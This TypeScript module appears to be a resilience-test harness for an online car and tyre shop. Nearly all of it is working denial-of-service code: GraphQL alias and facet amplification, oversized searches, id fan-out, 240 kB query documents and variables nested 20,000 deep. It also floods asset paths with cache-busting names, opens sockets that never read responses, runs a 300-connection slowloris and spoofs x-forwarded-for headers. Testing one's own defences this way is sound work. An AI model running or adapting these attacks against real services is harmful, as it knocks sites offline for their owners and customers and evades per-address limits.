import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';

/** The target of an attack, and the attacker's address. */
export interface Target {
  readonly origin: string;
  readonly address: string;
  /** Notes an answer: its status, or what happened to the connection. */
  note(outcome: string): void;
}

/**
 * Begins an attack.
 *
 * @returns a function that ends it.
 */
type Attack = (target: Target) => () => void;

const SECOND_MS = 1_000;
const LETTERS = [...'abcdefghijklmnopqrstuvwxyz'];

interface Sent {
  readonly path: string;
  /** Sent as JSON, if given. */
  readonly body?: string;
}

/**
 * Sends requests at a rate, whether or not earlier ones have been answered.
 *
 * @param make creates the nth request.
 */
const atRate =
  (perSecond: number, make: (nth: number) => Sent): Attack =>
  ({ origin, address, note }) => {
    const agent = new Agent({ keepAlive: true });
    let nth = 0;
    const timer = setInterval(() => {
      const { path, body } = make((nth += 1));
      const sent = request(
        `${origin}${path}`,
        {
          agent,
          method: body === undefined ? 'GET' : 'POST',
          headers: {
            'x-forwarded-for': address,
            ...(body === undefined ? {} : { 'content-type': 'application/json' }),
          },
        },
        (answer) => answer.resume().once('end', () => note(String(answer.statusCode))),
      );
      sent.once('error', () => note('broken off'));
      sent.end(body);
    }, SECOND_MS / perSecond);
    return () => {
      clearInterval(timer);
      agent.destroy();
    };
  };

const graphql = (query: string, variables: unknown = {}): Sent => ({
  path: '/graphql',
  body: JSON.stringify({ query, variables }),
});

/** One-letter words, different each time so that no answer is cached. */
const words = (count: number, nth: number): string =>
  Array.from({ length: count }, (_, at) => LETTERS[(at * 7 + nth) % LETTERS.length]).join(' ');

const FACETS = 'facets { brands { value count } seasons { value count } speedRatings { value count } }';

const aliases = (nth: number): Sent =>
  graphql(`{ ${Array.from(
    { length: 12 },
    (_, at) => `a${at}: products(search: "${words(190, nth * 12 + at)}", limit: 1) { ${FACETS} }`,
  ).join(' ')} }`);

/** Searches for car names up to the longest text allowed, for tyres or models. */
const carNames = (field: string) => (nth: number) => {
  const fields = Array.from(
    { length: 9 },
    (_, at) => `a${at}: ${field}(search: $search, limit: 1) { items { id } }`,
  );
  return graphql(`query ($search: String) { ${fields.join(' ')} }`, {
    search: `${words(10, nth)} ${'kuga '.repeat(3_990)}`.slice(0, 19_999),
  });
};

/** Two hundred tyres, with fields that take a statement for each. */
const manyIds = (nth: number): Sent =>
  graphql(
    'query ($ids: [Int!]!) { productsByIds(ids: $ids) { related { id } sameBrand { id } otherVariations { id } } }',
    { ids: Array.from({ length: 200 }, (_, at) => nth + at) },
  );

const longDocument = (nth: number): Sent =>
  graphql(`{ ${Array.from({ length: 9_500 }, (_, at) => `f${nth}_${at}: __typename`).join(' ')} }`);

/** As text, because no serialiser nests this deep. */
const nested = (depth: number): Sent => {
  const query = 'query ($input: CartQuoteInput!) { cartQuote(input: $input) { total } }';
  const input = '['.repeat(depth) + ']'.repeat(depth);
  return { path: '/graphql', body: `{"query":"${query}","variables":{"input":${input}}}` };
};

const longSearch = (nth: number): Sent =>
  graphql('query ($search: String) { blogPosts(search: $search, limit: 1) { items { slug } } }', {
    search: words(75_000, nth),
  });

/** Opens connections that misbehave. */
function openSockets({ origin, note }: Target, count: number, begin: (socket: Socket) => void): () => void {
  const { hostname, port } = new URL(origin);
  const sockets = Array.from({ length: count }, () => {
    const socket = connect(Number(port), hostname, () => begin(socket));
    socket.on('error', () => undefined);
    socket.once('close', () => note('closed by the shop'));
    return socket;
  });
  return () => {
    for (const socket of sockets) socket.removeAllListeners('close').destroy();
  };
}

/** Each requests the whole catalogue and reads nothing of it. */
const neverRead: Attack = (target) =>
  openSockets(target, 4, (socket) => {
    socket.pause();
    socket.write(
      `GET /api/products?limit=20000 HTTP/1.1\r\nhost: shop\r\nx-forwarded-for: ${target.address}\r\n\r\n`,
    );
  });

/** Each sends a header every second, and never the last one. */
const slowloris: Attack = (target) => {
  const timers: NodeJS.Timeout[] = [];
  const close = openSockets(target, 300, (socket) => {
    socket.write(`GET /shop HTTP/1.1\r\nhost: shop\r\nx-forwarded-for: ${target.address}\r\n`);
    timers.push(setInterval(() => socket.writable && socket.write('x-slow: yes\r\n'), SECOND_MS));
  });
  return () => {
    for (const timer of timers) clearInterval(timer);
    close();
  };
};

/** Each attack with its description; all requests of one attack come from one network. */
export const ATTACKS: readonly (readonly [name: string, attack: Attack])[] = [
  ['12 aliases of a search of 190 words with facets, 2/s', atRate(2, aliases)],
  ['9 aliases of a search of 20,000 characters, names of cars, 2/s', atRate(2, carNames('products'))],
  ['the same of models, 2/s', atRate(2, carNames('models'))],
  ['200 tyres by their ids with what each is related to, 2/s', atRate(2, manyIds)],
  ['documents of 240 kB, 10/s', atRate(10, longDocument)],
  ['`/assets/x`, 140/s', atRate(140, (nth) => ({ path: `/assets/x${nth}` }))],
  ['`/uploads/x`, 140/s', atRate(140, (nth) => ({ path: `/uploads/x${nth}` }))],
  ['unknown parameters of pages, 20/s', atRate(20, (nth) => ({ path: `/shop?x${nth}=${nth}` }))],
  ['variables nested 20,000 deep, 10/s', atRate(10, () => nested(20_000))],
  ['a search of the blog of 150 kB, 5/s', atRate(5, longSearch)],
  ['four clients that never read the long list', neverRead],
  ['slowloris, 300 connections', slowloris],
];
